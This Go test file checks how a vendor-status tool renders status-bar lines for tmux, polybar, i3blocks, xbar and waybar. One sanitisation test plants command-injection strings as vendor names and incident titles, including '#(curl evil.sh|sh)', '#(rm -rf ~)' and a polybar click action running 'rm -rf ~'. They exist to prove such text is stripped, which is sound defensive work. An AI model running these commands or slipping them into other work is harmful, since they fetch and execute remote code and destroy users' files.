package output

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"

	"github.com/vendorwatch/vendorwatch/correlate"
	"github.com/vendorwatch/vendorwatch/observe"
	"github.com/vendorwatch/vendorwatch/statusline"
)

func calmReport(n int) *correlate.Report {
	r := &correlate.Report{SchemaVersion: 1, Overall: correlate.LevelOK}
	for i := range n {
		r.Vendors = append(r.Vendors, correlate.VendorReport{VendorResult: observe.VendorResult{ID: string(rune('a' + i)), Name: "V"}, Level: correlate.LevelOK})
	}
	return r
}

func TestLine(t *testing.T) {
	names := map[string]string{"openai": "OpenAI", "vapi": "VAPI"}
	rep := sampleReport()
	rep.Findings = append(rep.Findings,
		correlate.Finding{Kind: correlate.KindVendorOutage, Severity: correlate.SeverityWarning, Vendors: []string{"vapi"}},
		correlate.Finding{Kind: correlate.KindVendorIncident, Severity: correlate.SeverityInfo, Vendors: []string{"openai"}},
	)
	tests := []struct {
		name string
		r    *correlate.Report
		o    LineOptions
		want string
	}{
		{"all ok", calmReport(12), LineOptions{}, "#[fg=colour16]● 12 ok#[default]"},
		{"worst first", &rep, LineOptions{Names: names}, "#[fg=colour231,bg=colour160,bold]✖ OpenAI key#[default] #[fg=colour16,bg=colour220]▲ VAPI#[default]"},
		{"plain ascii", &rep, LineOptions{Names: names, Format: LinePlain, ASCII: true}, "X OpenAI key ! VAPI"},
		{"no cache yet", nil, LineOptions{}, "#[fg=colour16,bg=colour250]? vendorwatch#[default]"},
		{"stale", calmReport(3), LineOptions{Stale: true, Age: 7 * time.Minute}, "#[fg=colour16]● 3 ok#[default] #[fg=colour16,bg=colour250]⌛ 7m#[default]"},
		{"width cap", &rep, LineOptions{Names: names, Format: LinePlain, MaxWidth: 15}, "✖ OpenAI key +1"},
		{"never a cut item", &rep, LineOptions{Names: names, Format: LinePlain, MaxWidth: 8}, "+2"},
		{"confirming and recovering", &correlate.Report{Overall: correlate.LevelOK, Findings: []correlate.Finding{
			{Kind: correlate.KindVendorOutageUnreported, Severity: correlate.SeverityWarning, State: correlate.StatePending, Vendors: []string{"vapi"}},
			{Kind: correlate.KindKeyRevoked, Severity: correlate.SeverityCritical, State: correlate.StateClosing, Vendors: []string{"openai"}},
			{Kind: correlate.KindVendorIncident, Severity: correlate.SeverityWarning, State: correlate.StateOpen, Vendors: []string{"github"}},
		}}, LineOptions{Names: map[string]string{"vapi": "VAPI", "openai": "OpenAI", "github": "GitHub"}, Format: LinePlain}, "▲ GitHub ? VAPI"},
		{"network", &correlate.Report{Overall: correlate.LevelWarning, Findings: []correlate.Finding{{Kind: correlate.KindNetworkLocal, Severity: correlate.SeverityWarning}}}, LineOptions{Format: LinePlain}, "▲ our network"},
		{"our traffic, and its Prometheus", &correlate.Report{Overall: correlate.LevelCritical, Findings: []correlate.Finding{
			{Kind: correlate.KindTrafficAuthErrors, Severity: correlate.SeverityCritical, Vendors: []string{"openai"}},
			{Kind: correlate.KindTrafficSourceDown, Severity: correlate.SeverityWarning, Vendors: []string{}},
		}}, LineOptions{Names: names, Format: LinePlain}, "✖ OpenAI traffic ▲ prometheus"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Line(tt.r, tt.o); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// Remote text must never reach the line: tmux runs #(…) and restyles on
// #[…], polybar reads %{…} tags, xbar reads parameters after '|', and
// i3blocks and xbar read one field a line. Names come from the local
// config; a report's own names and every incident title are ignored, and
// even config names lose every such character.
func TestLineNeverCarriesRemoteText(t *testing.T) {
	rep := sampleReport()
	rep.Vendors[1].Name = "#(curl evil.sh|sh) %{F#f00}"
	rep.Vendors[1].Status.Incidents[0].Title = "#(touch /tmp/pwned) #[fg=blue]"
	rep.Findings = []correlate.Finding{{Kind: correlate.KindVendorOutage, Severity: correlate.SeverityCritical, Vendors: []string{"vapi"},
		Title: "#(touch /tmp/pwned)", Detail: "#(rm -rf ~)"}}
	for _, names := range []map[string]string{
		{"vapi": "VAPI"},
		{"vapi": "VA#(PI)\x1b[31m | href=file:///etc\n---\n%{A1:rm -rf ~:}<b>&"},
		nil, // no config names: the report's name is used, sanitized
	} {
		for _, f := range statusline.Formats {
			got := Line(&rep, LineOptions{Names: names, Format: f})
			texts := lineTexts(t, f, got)
			if len(texts) == 0 {
				t.Fatalf("%s: no text in %q", f, got)
			}
			for _, text := range texts {
				if strings.ContainsAny(text, "#%{}|<&\x1b\n") || strings.Contains(text, "pwned") || strings.HasPrefix(text, "--") {
					t.Errorf("%s with names %v: %q in %q", f, names, text, got)
				}
			}
		}
	}
}

// polybarTag is a colour tag Line writes for polybar.
var polybarTag = regexp.MustCompile(`%\{F(?:#[0-9A-F]{6}|-)\}`)

// lineTexts takes a format's own markup off a line, leaving the texts it
// shows: the items, headings and counts.
func lineTexts(t *testing.T, f LineFormat, line string) []string {
	t.Helper()
	switch f {
	case LineTmux:
		return []string{tmuxStyle.ReplaceAllString(line, "")}
	case LinePolybar:
		return []string{polybarTag.ReplaceAllString(line, "")}
	case LineI3blocks:
		lines := strings.Split(line, "\n")
		if len(lines) != 3 {
			t.Fatalf("i3blocks: %q is not three lines", line)
		}
		return lines[:2]
	case LineXbar:
		var texts []string
		for _, l := range strings.Split(line, "\n") {
			if l == "---" {
				continue
			}
			text, params, _ := strings.Cut(l, " | ")
			if params != "" && !regexp.MustCompile(`^(?:color=#[0-9A-F]{6}|refresh=true)$`).MatchString(params) {
				t.Fatalf("xbar: parameters %q in %q", params, line)
			}
			texts = append(texts, text)
		}
		return texts
	case LineWaybar:
		var doc struct{ Text, Tooltip string }
		if err := json.Unmarshal([]byte(line), &doc); err != nil {
			t.Fatalf("waybar: %v", err)
		}
		return append([]string{doc.Text}, strings.Split(doc.Tooltip, "\n")...)
	}
	return []string{line}
}

func TestLineWaybar(t *testing.T) {
	rep := sampleReport()
	var doc struct{ Text, Tooltip, Class, Alt string }
	if err := json.Unmarshal([]byte(Line(&rep, LineOptions{Format: LineWaybar, Names: map[string]string{"openai": "OpenAI"}})), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Text != "✖ OpenAI key" || doc.Class != "critical" || !strings.Contains(doc.Tooltip, "2 vendors") {
		t.Errorf("waybar = %+v", doc)
	}
}

func TestLineMaxWidthHolds(t *testing.T) {
	rep := sampleReport()
	for w := 1; w < 40; w++ {
		got := Line(&rep, LineOptions{Format: LinePlain, MaxWidth: w})
		if n := ansi.StringWidth(got); n > w {
			t.Errorf("max width %d: %q is %d wide", w, got, n)
		}
	}
}

func BenchmarkLine(b *testing.B) {
	rep := sampleReport()
	names := map[string]string{"openai": "OpenAI", "vapi": "VAPI"}
	for b.Loop() {
		Line(&rep, LineOptions{Names: names, MaxWidth: 60})
	}
}

// A vendor is one item on the line however many findings name it: its
// worst. Before, a vendor with an outage and a dead key showed twice
// ("✖ OpenAI key ▲ OpenAI"), and a name repeated in a finding's vendors
// or given to two vendors by the config showed twice too.
func TestLineOneItemPerVendor(t *testing.T) {
	rep := &correlate.Report{Overall: correlate.LevelCritical, Findings: []correlate.Finding{
		{Kind: correlate.KindVendorOutage, Severity: correlate.SeverityWarning, Vendors: []string{"openai"}},
		{Kind: correlate.KindKeyRevoked, Severity: correlate.SeverityCritical, Vendors: []string{"openai", "openai"}},
		{Kind: correlate.KindStatusSourceDown, Severity: correlate.SeverityWarning, Vendors: []string{"vapi"}},
		{Kind: correlate.KindVendorOutageUnreported, Severity: correlate.SeverityCritical, State: correlate.StatePending, Vendors: []string{"vapi"}},
		{Kind: correlate.KindVendorOutage, Severity: correlate.SeverityWarning, Vendors: []string{"twilio", "twilio-eu"}},
		{Kind: correlate.KindNetworkLocal, Severity: correlate.SeverityWarning},
		{Kind: correlate.KindTrafficSourceDown, Severity: correlate.SeverityWarning},
	}}
	names := map[string]string{"openai": "OpenAI", "vapi": "VAPI", "twilio": "Twilio", "twilio-eu": "Twilio"}
	got := Line(rep, LineOptions{Names: names, Format: LinePlain})
	if want := "✖ OpenAI key ▲ VAPI status page ▲ Twilio ▲ our network ▲ prometheus"; got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}
